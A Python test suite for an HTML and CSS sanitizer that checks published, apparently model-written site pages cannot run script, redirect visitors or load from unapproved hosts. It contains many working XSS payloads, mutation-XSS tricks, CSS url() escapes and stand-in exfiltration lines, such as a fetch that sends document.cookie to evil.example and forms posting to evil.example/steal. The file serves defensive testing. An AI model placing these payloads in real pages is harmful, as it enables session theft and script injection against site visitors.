"""What a published page can and cannot do (issue 20 finding 1), and a property test of the sanitizer.

Each hostile case goes through `assemble_site`, as the assemble phase does, and the published page
is read back by `script_capable`: a second reading, with lexbor, of everything that could run script,
send the visitor elsewhere or load from a host not allowed.
"""

from __future__ import annotations

import html
import re

import pytest
import tinycss2
import tinycss2.ast
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from selectolax.lexbor import LexborHTMLParser

from tests.helpers import SAMPLE_BRIEF
from tests.unit.test_assemble import make_code, make_plan, page_html
from worker.errors import SiteCheckFailed
from worker.local.offline_site import offline_code, offline_content, offline_plan
from worker.models import Brief
from worker.pipeline.assemble import assemble_site, check_site
from worker.pipeline.sanitize import clean_css, clean_page, csp

ALLOWED = frozenset({"allowed.example"})
#: Elements that have no place in a published page: script, other documents, navigation, parser tricks.
_FORBIDDEN_TAGS = frozenset(
    "script base object embed applet frame frameset noscript template noembed noframes xmp plaintext math "
    "set animate animatetransform animatemotion use foreignobject image feimage style meta link title".split()
)
_URL_ATTRIBUTES = frozenset(
    "href src action formaction xlink:href data poster srcset cite background ping codebase lowsrc dynsrc".split()
)
_RESOURCE_ATTRIBUTES = frozenset({"src", "srcset", "poster", "data", "background"})
#: SVG attributes whose CSS values can load a resource (a fill pattern, a mask, a filter...).
_SVG_PRESENTATION = frozenset("fill stroke mask clip-path filter marker-start marker-mid marker-end cursor".split())
_RASTER = re.compile(r"data:image/(png|gif|jpeg|jpg|webp|avif)[;,]", re.I)
_HOST = re.compile(r"^\s*(?:[a-z][a-z0-9+.-]*:)?/{2,}([^/?#\\\s:@]*@)?([^/?#\\\s:]+)", re.I)
#: Characters browsers drop from URLs before reading their scheme.
_DROPPED = re.compile(r"[\x00-\x20]")


def _host_of(url: str) -> str | None:
    match = _HOST.match(url.replace("\\", "/"))
    return match.group(2).lower().strip(".") if match else None


def _resource_refused(url: str, allowed: frozenset[str]) -> bool:
    bare = _DROPPED.sub("", url).lower()
    if bare.startswith("data:"):
        return not _RASTER.match(bare)
    if re.match(r"[a-z][a-z0-9+.-]*:", bare) and not bare.startswith(("http:", "https:")):
        return True
    host = _host_of(bare) if bare.startswith(("http:", "https:", "//", "/\\", "\\")) else None
    if bare.startswith(("http:", "https:")) and host is None:
        host = bare.split(":", 1)[1].lstrip("/").split("/")[0]
    return host is not None and not any(host == a or host.endswith("." + a) for a in allowed)


def script_capable(page: str, allowed: frozenset[str] = frozenset()) -> list[str]:
    """Everything in `page` (a published page) that could run script, navigate, or contact a host not allowed."""
    found: list[str] = []
    # Raw text (of <style> and <iframe>) is inert to every HTML parser; markup anywhere else is not.
    markup = re.sub(r"(<(iframe|style)\b[^>]*>).*?(</\2[\t\n\f />])", r"\1\3", page, flags=re.S | re.I)
    if re.search(r"<\s*/?\s*(noscript|template|xmp|plaintext|noembed|noframes|math)\b", markup, re.I):
        found.append("an element that parsers read differently")
    tree = LexborHTMLParser(page)
    head = tree.head
    for node in tree.css("*"):
        tag = (node.tag or "").lower()
        attributes = {k.lower(): v or "" for k, v in node.attributes.items()}
        in_head = head is not None and node.parent is not None and node.parent.tag == "head"
        if tag == "script":
            src = attributes.get("src")
            if src is None or node.text(deep=True).strip() or _resource_refused(src, allowed) or _host_of(src) is None:
                found.append(f"<script> {attributes}")
        elif tag == "meta" and in_head:
            equiv = attributes.get("http-equiv", "").lower()
            if (equiv and equiv != "content-security-policy") or (
                attributes.get("name", "").lower() == "referrer"
                and (attributes.get("content") != "strict-origin-when-cross-origin")
            ):
                found.append(f"<meta {attributes}>")
        elif tag in ("style", "link", "title") and in_head:
            pass
        elif tag in _FORBIDDEN_TAGS:
            found.append(f"<{tag}>")
        for name, value in attributes.items():
            bare = _DROPPED.sub("", value).lower()
            if name.startswith("on") or (
                name in ("srcdoc", "referrerpolicy", "attributename", "formaction")
                and (name != "formaction" or _resource_refused(value, allowed))
            ):
                found.append(f"<{tag} {name}>")
            elif name in _URL_ATTRIBUTES and name not in _RESOURCE_ATTRIBUTES and tag not in ("link", "form"):
                if re.match(r"(javascript|vbscript|data|blob|file|filesystem):", bare):
                    found.append(f"<{tag} {name}={value[:60]}>")
            elif (name in _RESOURCE_ATTRIBUTES or tag in ("link", "form")) and name in _URL_ATTRIBUTES:
                urls = re.findall(r"(?:^|,)\s*(\S+)", value) if name == "srcset" else [value]
                if tag == "link" and not {"stylesheet", "icon"} & set(attributes.get("rel", "").lower().split()):
                    continue
                if any(_resource_refused(u, allowed) for u in urls) or (
                    tag not in ("img", "source", "input", "video") and bare.startswith("data:")
                ):
                    found.append(f"<{tag} {name}={value[:60]}>")
            elif name == "style" or (name in _SVG_PRESENTATION and "url(" in bare):
                found += [f"<{tag} {name}> loads {u}" for u in _css_urls(value) if _resource_refused(u, allowed)]
    for style in tree.css("style"):
        found += [f"<style> loads {u}" for u in _css_urls(style.text(deep=True)) if _resource_refused(u, allowed)]
    return found


def _css_urls(css: str) -> list[str]:
    """Every address CSS can load, as a CSS tokenizer reads it (a regex would take a string for a url())."""
    urls: list[str] = []
    tokens = tinycss2.parse_component_value_list(css)
    importing = False
    while tokens:
        token = tokens.pop(0)
        if isinstance(token, tinycss2.ast.URLToken):
            urls.append(token.value)
        elif isinstance(token, tinycss2.ast.ParseError) and token.kind == "bad-url":
            urls.append("bad-url")
        elif isinstance(token, tinycss2.ast.StringToken) and importing:
            urls.append(token.value)
        elif isinstance(token, tinycss2.ast.FunctionBlock):
            if token.lower_name in ("url", "src") or token.lower_name.endswith("image-set"):
                urls += [t.value for t in token.arguments if isinstance(t, tinycss2.ast.StringToken)]
            tokens += token.arguments
        elif isinstance(token, (tinycss2.ast.ParenthesesBlock, tinycss2.ast.SquareBracketsBlock)):
            tokens += token.content
        elif isinstance(token, tinycss2.ast.CurlyBracketsBlock):
            tokens += token.content
        if isinstance(token, tinycss2.ast.AtKeywordToken):
            importing = token.lower_value == "import"
        elif not isinstance(token, (tinycss2.ast.WhitespaceToken, tinycss2.ast.Comment)):
            importing = False
    return urls


def published(body: str = "", head: str = "", allowed: frozenset[str] = ALLOWED) -> tuple[str, list[str]]:
    """The about page with `body` in its main and `head` in its head, as assemble_site publishes it."""
    page = page_html("about", body=body).replace("</head>", head + "</head>")
    manifest, files = assemble_site(1, 2, make_plan(), make_code({"about.html": page}), allowed_hosts=allowed)
    return next(f.content.decode() for f in files if f.path == "about.html"), manifest.warnings


# --------------------------------------------------------------------------- finding 1, case by case

FINDING_1 = [
    ("inline-script", '<script>document.title = "pwned";</script>', "", "removed inline <script>"),
    (
        "module-import",
        '<script type="module">import "https://evil.example/m.js";</script>',
        "",
        "removed inline <script>",
    ),
    (
        "script-builds-script",
        '<script>var s = document.createElement("script"); s.src = "https://evil.example/x.js";'
        " document.head.append(s);</script>",
        "",
        "removed inline <script>",
    ),
    ("head-script", "", "<script>fetch('https://evil.example/?c=' + document.cookie)</script>", "inline <script>"),
    ("iframe-srcdoc", '<iframe srcdoc="&lt;script&gt;parent.alert(1)&lt;/script&gt;"></iframe>', "", "<iframe srcdoc>"),
    (
        "svg-xlink-href",
        '<svg><a xlink:href="javascript:alert(1)"><circle r="5"></circle></a></svg>',
        "",
        "removed <a xlink:href=javascript:alert(1)> (javascript: addresses are not allowed in links)",
    ),
    (
        "svg-set-href",
        '<svg><a><set attributeName="href" to="javascript:alert(1)"></set><circle r="5"></circle></a></svg>',
        "",
        "removed <set>",
    ),
    (
        "input-formaction",
        '<form><input type="submit" formaction="https://evil.example/steal"></form>',
        "",
        "removed <input formaction=https://evil.example/steal> (host evil.example not in output.allowed_embed_hosts)",
    ),
    (
        "form-action-outside",
        '<form action="https://evil.example/steal" method="post"><input name="email"></form>',
        "",
        "removed <form action=https://evil.example/steal> (host evil.example not in output.allowed_embed_hosts)",
    ),
    (
        "meta-refresh",
        "",
        '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
        "removed <meta http-equiv=refresh>",
    ),
    (
        "data-html-with-space",
        '<a href="data: text/html,&lt;script&gt;alert(1)&lt;/script&gt;">x</a>',
        "",
        "(data: addresses are not allowed in links)",
    ),
    (
        "data-svg-link",
        '<a href="data:image/svg+xml,&lt;svg onload=alert(1)&gt;">x</a>',
        "",
        "(data: addresses are not allowed in links)",
    ),
    (
        "data-svg-image",
        '<img alt="" src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
        "",
        "(data: addresses are not allowed here)",
    ),
    ("data-svg-iframe", '<iframe src="data:image/svg+xml,&lt;svg onload=alert(1)&gt;"></iframe>', "", "<iframe src"),
    ("meta-referrer", "", '<meta name="referrer" content="unsafe-url">', "removed <meta name=referrer>"),
    (
        "referrerpolicy",
        '<a href="https://other.example/" referrerpolicy="unsafe-url">x</a>',
        "",
        "removed <a referrerpolicy>",
    ),
    (
        "noscript-mutation",
        '<noscript><p title="</noscript><script src=https://evil.example/x.js></script>"></p></noscript>',
        "",
        "removed <noscript>",
    ),
    ("base-outside", "", '<base href="https://evil.example/">', "removed <base> (href=https://evil.example/)"),
    ("tracking-pixel", '<img alt="" src="https://evil.example/pixel.gif">', "", "removed <img src=https://evil"),
    ("srcset", '<img alt="" src="data:image/png;base64,AA==" srcset="https://evil.example/a.png 2x">', "", "srcset"),
    ("video-poster", '<video poster="https://evil.example/p.png"></video>', "", "<video poster=https://evil"),
    ("stylesheet", "", '<link rel="stylesheet" href="https://evil.example/x.css">', "<link href=https://evil"),
    ("css-import", "", '<style>@import "https://evil.example/x.css";</style>', "from <style>"),
    ("css-url", '<div style="background: url(https://evil.example/t.png)">x</div>', "", "from <div style>"),
    (
        "css-escaped-url",
        "",
        r"<style>body { background: u\72l(https://evil.example/t.png) }</style>",
        "url(https://evil.example/t.png)",
    ),
    ("preconnect", "", '<link rel="preconnect" href="https://evil.example">', "removed <link rel=preconnect>"),
    ("object", '<object data="https://evil.example/x.swf"></object>', "", "removed <object>"),
    ("embed", '<embed src="https://evil.example/x.swf">', "", "removed <embed>"),
]


@pytest.mark.parametrize(("body", "head", "warning"), [c[1:] for c in FINDING_1], ids=[c[0] for c in FINDING_1])
def test_model_written_script_and_outside_hosts_do_not_reach_the_published_page(
    body: str, head: str, warning: str
) -> None:
    """Regression: issue 20 finding 1: each of these passed check_site and was published as the model wrote it."""
    page, warnings = published(body, head)
    assert script_capable(page, ALLOWED) == [], page
    assert "evil.example" not in page.replace("evil.example/x.js&gt;", "")  # the noscript case leaves text
    assert any(warning in w for w in warnings), warnings
    assert all(w.startswith("about.html: ") and w.isprintable() for w in warnings)


@pytest.mark.parametrize(
    ("path", "content"),
    [
        ("app.js", "fetch('https://evil.example/')"),
        ("assets/logo.svg", '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
        ("sitemap.xml", '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>'),
    ],
    ids=["js", "svg", "xml"],
)
def test_script_capable_files_are_refused_naming_the_file(path: str, content: str) -> None:
    """Regression: issue 20 finding 1: .js, .svg (with <script>) and .xml files were published uninspected."""
    code = make_code(extra={path: content})
    problems, publishable = check_site(make_plan(), code)
    assert publishable is None and any(p.startswith(f"{path}: ") and "not published" in p for p in problems)
    with pytest.raises(SiteCheckFailed, match=re.escape(path)):
        assemble_site(1, 2, make_plan(), code)


def test_allowed_hosts_keep_their_scripts_embeds_and_images() -> None:
    """The operator's hosts stay usable: a script, an iframe, an image, a stylesheet; the CSP names them."""
    body = (
        '<script src="https://cdn.allowed.example/widget.js" async></script>'
        '<iframe src="https://maps.allowed.example/embed" title="Map"></iframe>'
        '<img alt="" src="https://img.allowed.example/a.png" srcset="https://img.allowed.example/b.png 2x">'
    )
    page, warnings = published(body, '<link rel="stylesheet" href="https://cdn.allowed.example/a.css">')
    assert warnings == [] and script_capable(page, ALLOWED) == []
    for kept in ("widget.js", "maps.allowed.example/embed", "img.allowed.example/b.png 2x", "allowed.example/a.css"):
        assert kept in page
    assert "script-src allowed.example *.allowed.example;" in page


def test_every_page_carries_the_csp_and_the_referrer_policy() -> None:
    page, _ = published(allowed=frozenset())
    policy = csp(frozenset())
    for directive in ("script-src 'none'", "object-src 'none'", "base-uri 'none'", "form-action 'self'"):
        assert directive in policy
    assert f'<meta http-equiv="Content-Security-Policy" content="{policy}">' in page
    assert '<meta name="referrer" content="strict-origin-when-cross-origin">' in page
    assert page.index("Content-Security-Policy") < page.index("<title>") < page.index("<body>")


def test_the_published_page_is_what_was_checked() -> None:
    """A page that would lose its only <h1> to the sanitizer fails the check of the site as published."""
    page = page_html("about", h1=0).replace("<main>", "<main><noscript><h1>about</h1></noscript>")
    problems, publishable = check_site(make_plan(), make_code({"about.html": page}))
    assert publishable is None and "once sanitized, about.html: has 0 <h1> elements, expected exactly one" in problems


def test_stylesheet_files_lose_outside_urls_only() -> None:
    css = "body { color: #111; background: url(img/a.png) }\n@import url(https://evil.example/x.css);\n"
    cleaned, removed = clean_css(css, frozenset())
    assert cleaned == "body { color: #111; background: url(img/a.png) }\n@import none;\n"
    assert removed == ["url(https://evil.example/x.css) (host evil.example not in output.allowed_embed_hosts)"]
    assert clean_css(cleaned, frozenset()) == (cleaned, [])


@pytest.mark.parametrize(
    "css",
    [
        "@font-face { font-family: x; src: url(https://evil.example/f.woff2) format('woff2'); }",
        "@import url('https://evil.example/x.css') screen;",
        '@import "//evil.example/x.css";',
        ".a { background-image: image-set('https://evil.example/a.png' 1x, url(b.png) 2x); }",
        '.a { background-image: -webkit-image-set("https://evil.example/a.png" 1x); }',
        ".a { background: image('https://evil.example/a.png'); }",
        ".a { cursor: url(https://evil.example/c.cur), auto; }",
        ".a { background: U\\52L(https://evil.example/a.png); }",
        r".a { background: url(/\\evil.example/a.png); }",  # an escaped backslash: browsers read //evil.example
        ".a { background: url(data:image/svg+xml,%3Csvg%20onload%3Dalert(1)%3E); }",
        "@media screen { @supports (display: grid) { .a { background: url(https://evil.example/n.png) } } }",
        ".a { list-style: url(https://evil.example/l.png) }",
        ".a { mask: url(https://evil.example/m.svg#x) }",
    ],
)
def test_css_loads_nothing_from_an_outside_host(css: str) -> None:
    """Issue 20 finding 1: CSS url(), @import, image-set() and fonts to hosts not allowed do not survive."""
    cleaned, removed = clean_css(css, ALLOWED)
    assert removed and "evil.example" not in cleaned and "svg" not in cleaned.lower().replace("m.svg", "")
    assert clean_css(cleaned, ALLOWED) == (cleaned, [])
    page = clean_page("about.html", page_html("about", body=f'<div style="{html.escape(css)}">x</div>'), ALLOWED)
    assert "evil.example" not in page.html.split("</head>")[1] and page.removed


def _trimmed(body: str | None) -> str:
    return re.sub(r"\s+</body>$", "</body>", body or "")


def test_the_offline_sites_lose_nothing() -> None:
    """The offline sites' pages keep all their markup: their bodies parse to the same tree as written."""
    brief = Brief.model_validate(SAMPLE_BRIEF)
    plan = offline_plan(brief)
    code = offline_code(plan, offline_content(brief, plan))
    manifest, files = assemble_site(1, 2, plan, code)
    assert manifest.warnings == []
    written = {f.path: f.content.decode() for f in files}
    for file in code.files:
        if file.path.endswith(".html"):
            before, after = LexborHTMLParser(file.content), LexborHTMLParser(written[file.path])
            assert before.body is not None and after.body is not None
            assert _trimmed(after.body.html) == _trimmed(before.body.html)
            assert before.head is not None and after.head is not None
            assert (
                [(n.tag, n.attributes) for n in list(before.head.iter())[1:]]
                == [  # after charset
                    (n.tag, n.attributes)
                    for n in list(after.head.iter())[3:]  # after charset, CSP, referrer
                ]
            )
        else:
            assert written[file.path] == file.content


# --------------------------------------------------------------------------- property: mutated pages

_HOSTILE = [
    "<script>alert(1)</script>",
    '<script src="https://evil.example/x.js"></script>',
    '<script src="https://cdn.allowed.example/ok.js"></script>',
    '<img src=x onerror="alert(1)">',
    '<a href="javascript:alert(1)">j</a>',
    '<a href=" JaVa&#x09;ScRiPt:alert(1)">j</a>',
    '<a href="&#106;avascript:alert(1)">j</a>',
    '<a href="data: text/html,<script>alert(1)</script>">d</a>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<iframe src="https://evil.example/"></iframe>',
    '<svg><a xlink:href="javascript:alert(1)"><circle r="5"/></a></svg>',
    '<svg><set attributeName="href" to="javascript:alert(1)"/></svg>',
    '<svg><animate attributeName="href" values="javascript:alert(1)"/></svg>',
    "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    '<noscript><p title="</noscript><script src=https://evil.example/x.js></script>"></p></noscript>',
    "<template><script>alert(1)</script></template>",
    "<!--<script>alert(1)</script>-->",
    '<form action="https://evil.example/"><button formaction="javascript:alert(1)">b</button></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="https://evil.example/">',
    '<object data="data:text/html,<script>alert(1)</script>"></object>',
    '<embed src="https://evil.example/x.swf">',
    '<div style="background:url(https://evil.example/t.png)">s</div>',
    '<div style="background:u\\72l(https://evil.example/t.png)">s</div>',
    "<style>@import 'https://evil.example/x.css';</style>",
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<img srcset="https://evil.example/a.png 1x, b.png 2x">',
    '<a href="x.html" referrerpolicy="unsafe-url">r</a>',
    '<meta name="referrer" content="unsafe-url">',
    "<xmp><script>alert(1)</script></xmp>",
    "<select><template><style><img src=x onerror=alert(1)></style></template></select>",
    '<table><td><a href="javascript:alert(1)">t</a></td></table>',
    '<p title="</p><script>alert(1)</script>">p</p>',
    "<plaintext><script>alert(1)</script>",
    '<textarea></textarea><script>alert(1)</script>">',
    '<input type="image" src="https://evil.example/i.png" alt="i">',
    '<a href="jav&#x0A;ascript:alert(1)">n</a>',
    '<a href="&#x6A;&#x61;vascript&colon;alert(1)">e</a>',
    '<svg><a href="javascript:alert(1)"><text>t</text></a></svg>',
    '<svg><use href="https://evil.example/s.svg#x"/></svg>',
    '<svg><image href="https://evil.example/i.png"/></svg>',
    '<svg><path fill="url(https://evil.example/p.svg#g)" d="M0 0"/></svg>',
    '<video><source src="https://evil.example/v.mp4"></video>',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<script src="https://cdn.allowed.example/m.js" type="module" async></script>',
    '<script src="//evil.example/x.js"></script>',
    '<script src="https:evil.example/x.js"></script>',
    '<iframe src="/\\evil.example/"></iframe>',
    "<a href=https://evil.example/ ping=https://evil.example/p>p</a>",
    "<form><input name=q></form><form action=https://evil.example/>",
    "</head><body><script>alert(1)</script>",
    "</body></html><script>alert(1)</script>",
]
_NAMES = ["p", "div", "a", "svg", "math", "table", "noscript", "template", "style", "select", "textarea", "b", "title"]
_ATTRIBUTES = ["href", "src", "onload", "style", "title", "srcdoc", "formaction", "xlink:href", "class", "action"]
_VALUES = ["javascript:alert(1)", "https://evil.example/", "x.html", "#top", "url(https://evil.example/)", '"><x>']

_fragment = st.one_of(
    st.sampled_from(_HOSTILE),
    st.builds(
        lambda tag, attribute, value, quote: f"<{tag} {attribute}={quote}{value}{quote}>",
        st.sampled_from(_NAMES),
        st.sampled_from(_ATTRIBUTES),
        st.sampled_from(_VALUES),
        st.sampled_from(['"', "'", ""]),
    ),
    st.builds(lambda tag: f"</{tag}>", st.sampled_from(_NAMES)),
    st.sampled_from(["&lt;", "&#x3c;", "&#0000060;", "\x00", "\t", "\n", "&amp;", "<", ">", '"', "'", "&"]),
    st.text(alphabet="<>/\"'=&;# abcsriptjv:", max_size=12),
)


@st.composite
def mutated_pages(draw: st.DrawFn) -> str:
    """A page with hostile fragments inserted, duplicated and nested at random places of its body or head."""
    page = page_html("about", body="<p>Text <b>bold</b></p><section><p>more</p></section>")
    for _ in range(draw(st.integers(1, 6))):
        fragment = draw(_fragment)
        if draw(st.booleans()):
            fragment = fragment * draw(st.integers(2, 3))
        if draw(st.booleans()):  # nested inside another hostile fragment
            outer = draw(st.sampled_from(_HOSTILE))
            cut = draw(st.integers(0, len(outer)))
            fragment = outer[:cut] + fragment + outer[cut:]
        at = draw(st.integers(0, len(page)))
        page = page[:at] + fragment + page[at:]
    return page


#: Found by the property below (2026-12-08): an SVG link whose `xlink:href` ammonia keeps (as `href`) and whose
#: allowed <script> moves to the end of the body. Cleaning the published page again reported "removed <a
#: xlink:href>", a removal of nothing: the report read lexbor's name for the attribute, not ammonia's.
XLINK_KEPT = (
    '<!doctype html><html lang="en"><head><title>about</title></head><body><main><h1><svg><a xlink:href=<script '
    'src="https://cdn.allowed.example/ok.js"></script><script src="https://cdn.allowed.example/ok.js"></script>'
    '"javascript:alert(1)"><circle r="5"/></a></svg>about</h1></main></body></html>'
)


@settings(max_examples=500, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(mutated_pages())
@example(XLINK_KEPT)
def test_cleaning_is_a_fixed_point_without_script_capable_constructs(page: str) -> None:
    """Issue 20 section C: the sanitizer's output is a fixed point and never holds a script-capable construct."""
    allowed = frozenset({"allowed.example"})
    once = clean_page("about.html", page, allowed).html
    again = clean_page("about.html", once, allowed)
    assert again.html == once
    assert again.removed == [], "a published page has nothing left to remove"
    assert script_capable(once, allowed) == []
    assert all(line.isprintable() for line in clean_page("about.html", page, allowed).removed)
